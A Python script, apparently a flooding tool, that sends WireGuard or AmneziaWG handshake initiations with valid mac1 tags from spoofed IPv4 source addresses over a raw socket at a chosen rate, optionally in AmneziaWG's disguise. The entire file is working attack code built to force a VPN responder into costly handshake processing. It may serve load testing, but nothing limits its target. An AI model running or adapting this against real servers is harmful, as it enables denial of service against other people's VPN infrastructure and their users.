#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Handshake initiations that only the responder's own work can tell from honest ones: their mac1 is right.

    flood.py FROM TARGET PORT PUBLIC-KEY RATE SECONDS [KEY=VALUE…]

FROM is an IPv4 address, or a network (198.18.0.0/15) of which each message takes another one. In plain, or in the disguise that
amneziawg-go's keys say (s1, h1, header_protection_key, random_trailers; others are let be). Whole IP packets by a raw
socket, RATE a second in batches of one millisecond, one system call each. Prints how many were sent, and the share of a core
that it took."""

import ctypes
import hashlib
import ipaddress
import os
import random
import socket
import struct
import sys
import time
from base64 import b64decode

#: Different messages; then the same again, which a responder under load can no more tell from new ones.
DISTINCT = 4096
libc = ctypes.CDLL(None, use_errno=True)


class IOVector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Header(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint), ("vector", ctypes.POINTER(IOVector)),
                ("vectors", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class Message(ctypes.Structure):
    _fields_ = [("header", Header), ("length", ctypes.c_uint)]


def initiation(mac1_key, disguise):
    low, _, high = disguise.get("h1", "1").partition("-")
    body = struct.pack("<I", random.randint(int(low), int(high or low))) + os.urandom(112)
    message = body + hashlib.blake2s(body, key=mac1_key, digest_size=16).digest() + bytes(16)
    prefix = os.urandom(int(disguise.get("s1", 0)))
    if key := disguise.get("header_protection_key"):
        hidden = ctypes.create_string_buffer(len(message))
        library = ctypes.CDLL("libsodium.so.23")
        library.crypto_stream_chacha20_ietf_xor(hidden, message, ctypes.c_ulonglong(len(message)), prefix[:12], bytes.fromhex(key))
        message = hidden.raw
    # As long as amneziawg-go makes it.
    trailer = random.randrange(500 - len(prefix) - len(message)) if disguise.get("random_trailers") == "1" else 0
    return prefix + message + os.urandom(trailer)


def packet(source, target, port, payload):
    """IPv4 and UDP around it; the kernel fills in length and checksum of the one, and the other may do without."""
    udp = struct.pack("!HHHH", random.randrange(1024, 65536), port, 8 + len(payload), 0) + payload
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, source.packed, target.packed)
    return header + udp


def messages(network, target, port, public, disguise):
    """One mmsghdr for each of the packets, and what must stay alive for them."""
    mac1_key = hashlib.blake2s(b"mac1----" + public).digest()
    address = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", 0) + target.packed + bytes(8), 16)
    made, kept = (Message * DISTINCT)(), [address]
    for message in made:
        source = network[random.randrange(network.num_addresses)]
        bytes_ = ctypes.create_string_buffer(packet(source, target, port, initiation(mac1_key, disguise)))
        vector = IOVector(ctypes.cast(bytes_, ctypes.c_void_p), len(bytes_) - 1)
        kept += [bytes_, vector]
        message.header.name, message.header.name_length = ctypes.cast(address, ctypes.c_void_p), 16
        message.header.vector, message.header.vectors = ctypes.pointer(vector), 1
    return made, kept


def main():
    source, target, port, public, rate, seconds = sys.argv[1:7]
    disguise = dict(word.split("=", 1) for word in sys.argv[7:])
    network = ipaddress.ip_network(source)
    made, kept = messages(network, ipaddress.ip_address(target), int(port), b64decode(public), disguise)
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    batch = max(1, int(rate) // 1000)
    size = ctypes.sizeof(Message)
    print("begins", flush=True)
    sent, at, cpu = 0, 0, time.process_time()
    start = time.perf_counter()
    while (elapsed := time.perf_counter() - start) < float(seconds):
        due = int(elapsed * int(rate)) - sent
        if due < batch:
            time.sleep(0.0005)
            continue
        count = min(due, 4 * batch, DISTINCT - at)
        done = libc.sendmmsg(sender.fileno(), ctypes.byref(made, at * size), count, 0)
        # What a full queue refuses is lost, as on any network.
        sent += count if done < 0 else done
        at = (at + count) % DISTINCT
    elapsed = time.perf_counter() - start
    print(f"sent {sent} rate {sent / elapsed:.0f} cpu {(time.process_time() - cpu) / elapsed:.2f}", flush=True)
    del kept


if __name__ == "__main__":
    main()
